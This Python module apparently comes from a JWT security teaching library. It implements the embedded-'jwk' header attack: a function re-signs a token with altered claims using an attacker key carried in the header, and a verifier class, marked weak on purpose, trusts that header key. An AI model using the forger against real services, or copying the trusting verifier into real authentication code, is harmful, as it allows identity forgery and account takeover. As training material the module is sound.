"""A token that brings its own key in the header, and the verifier that takes it (RFC 7515 §4.1.3, RFC 8725 §3.8)."""

from __future__ import annotations

from functools import cache
from typing import Any, cast

from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey
from cryptography.hazmat.primitives.serialization import load_pem_private_key
from jwt.algorithms import RSAAlgorithm

from authkit.attacks.forge import signing_input
from authkit.jose.algorithms import ALGORITHMS
from authkit.jose.claims import Claims
from authkit.jose.decode import decode
from authkit.jose.encoding import encode_segment
from authkit.jose.key_set import KeySet
from authkit.jose.training_keys import training_key
from authkit.jose.verdict import Verdict
from authkit.jose.verifier import Verifier

_LAST = 7


@cache
def _own_key() -> RSAPrivateKey:
    """The attacker's pair: the last of the published ones, to which no lesson's tenant rotates."""
    pem = training_key(_LAST).encode()
    return cast("RSAPrivateKey", load_pem_private_key(pem, password=None, unsafe_skip_rsa_key_validation=True))


def sign_with_own_key(token: str, /, **changes: Any) -> str:
    """The token with claims changed, signed with a key of the attacker's own, which its header brings along as `jwk`.

    The `kid` stays that of the issuer's key: a verifier that looks it up where it should finds a key that does not fit.

    Args:
        token: An RS256 token to start from.
        **changes: Claims and their new values, as in `sub="someone else"`.

    Raises:
        TokenRejected: The token cannot be read.
        ConfigurationError: Claims that JSON cannot hold.
    """
    read = decode(token)
    own = _own_key()
    public = cast("dict[str, str]", RSAAlgorithm.to_jwk(own.public_key(), as_dict=True))
    header = {**read.header, "alg": "RS256", "jwk": {"kty": "RSA", "n": public["n"], "e": public["e"]}}
    signed = signing_input(header, {**read.payload, **changes})
    signature = ALGORITHMS["RS256"].engine.sign(signed.encode("ascii"), own)
    return f"{signed}.{encode_segment(signature)}"


class TrustsHeaderKey:
    """WEAK ON PURPOSE: checks everything, but with the key that the token's header brings, if it brings one.

    Args:
        strict: What it does like, apart from that.
    """

    def __init__(self, strict: Verifier) -> None:
        self._strict = strict

    def verify(self, token: str) -> Claims:
        """The claims of a token that fits its own key, or the issuer's.

        Raises:
            TokenRejected: A check refused.
            KeySetError: What the header brings is no key.
        """
        return self._believing(token).verify(token)

    def explain(self, token: str) -> Verdict:
        """Every check in order, made with the token's own key.

        Raises:
            TokenRejected: The token cannot be read.
            KeySetError: What the header brings is no key.
        """
        return self._believing(token).explain(token)

    def _believing(self, token: str) -> Verifier:
        brought = decode(token).header.get("jwk")
        like = self._strict
        return Verifier(
            issuer=like.issuer,
            audience=like.audience,
            keys=like.keys if brought is None else KeySet.from_jwk(cast("dict[str, Any]", brought)),
            algorithms=like.algorithms,
            policy=like.policy,
            clock=like.clock,
        )

    def __repr__(self) -> str:
        return "TrustsHeaderKey() – weak on purpose: takes the key that the token brings"
